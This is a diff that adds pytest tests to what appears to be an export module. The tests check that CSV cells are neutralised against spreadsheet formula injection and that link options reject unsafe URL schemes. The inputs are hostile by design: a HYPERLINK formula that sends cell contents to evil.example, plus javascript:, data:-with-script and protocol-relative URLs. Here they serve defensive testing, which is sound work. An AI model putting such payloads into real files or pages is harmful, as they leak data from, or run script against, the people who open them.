@@ -462,6 +462,43 @@ def test_csv_parses_with_the_documented_columns():
     )
 
 
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
+def test_no_csv_cell_of_any_column_runs_as_a_formula(start):
+    """Every column the CSV writes, given a value that a spreadsheet would run as a formula
+    (numbers can only start with '-'), is written as text: a leading "'"."""
+    from kb.export import (
+        Cell,
+        CompatTable,
+        FindingRef,
+        FlagItem,
+        Matrix,
+        Row,
+        SourceLink,
+        Throughput,
+    )
+
+    bad = start + 'HYPERLINK("https://evil.example/?"&A1;"x")'
+    ref = FindingRef(
+        id=bad, title=bad, status=bad, date=bad, file="x.md", sources=(SourceLink(bad, None),)
+    )
+    cell = Cell(status=bad, conflict=False, history=(), flags=(FlagItem("add", bad),),
+                best=Throughput(-1.5, -3, bad), date=bad, findings=(ref,))  # fmt: skip
+    row = Row(family=bad, architecture=bad, model=bad, gpu_sm=bad, gpu_names=(bad,),
+              gpu_counts=(-8,), quantization=bad, framework=bad, framework_versions=(bad,),
+              cell=cell)  # fmt: skip
+    table = CompatTable(rows=(row,), matrix=Matrix((), (), ()), finding_count=1)
+    header, values = list(csv.reader(io.StringIO(to_csv(table), newline="")))
+    numbers = {"gpu_count": "'-8", "throughput_tok_s": "'-1.5", "concurrency": "'-3"}
+    expected = {c: numbers.get(c, "'" + bad) for c in CSV_COLUMNS}
+    expected["conflict"] = ""  # "conflicting: ..." or nothing: never a formula
+    assert tuple(header) == CSV_COLUMNS
+    assert dict(zip(header, values, strict=True)) == expected
+    assert not any(v.startswith(FORMULA_STARTS) for v in values)
+
+
 def test_json_schema():
     doc = json.loads(to_json(build_table(seed_findings(), generated="2026-06-01")))
     assert doc["schema_version"] == EXPORT_SCHEMA_VERSION == 3
@@ -812,3 +849,28 @@ def test_cli_link_base_folder_that_does_not_exist(fake_index, tmp_path):
         "write FOLDER=URL or a plain URL for the shipped findings\n"
     )
     assert fake_index == []
+
+
+@pytest.mark.parametrize(
+    "value, url",
+    [
+        ("{tmp}=javascript:alert(1)//", "javascript:alert(1)//"),
+        ("javascript:alert(1)//", "javascript:alert(1)//"),
+        ("{tmp}=data:text/html,<script>x</script>", "data:text/html,<script>x</script>"),
+        ("{tmp}=https:no-host", "https:no-host"),
+        ("{tmp}=//evil.example/", "//evil.example/"),
+    ],
+)
+def test_link_base_takes_only_web_and_file_addresses(tmp_path, value, url):
+    value = value.replace("{tmp}", str(tmp_path))
+    with pytest.raises(ExportError) as exc:
+        folder_links([value], tmp_path, tmp_path)
+    assert str(exc.value) == (
+        f"--link-base {value!r}: {url!r} is not an http://, https:// or file:// address; "
+        "a link may point only to a web page or a file"
+    )
+
+
+def test_link_base_accepts_http_https_and_file(tmp_path):
+    for url in ("http://kb.lan/x/", "https://github.com/o/r/blob/main/f/", "file:///srv/kb/"):
+        assert folder_links([f"{tmp_path}={url}"], tmp_path, tmp_path).folders[0][1] == url
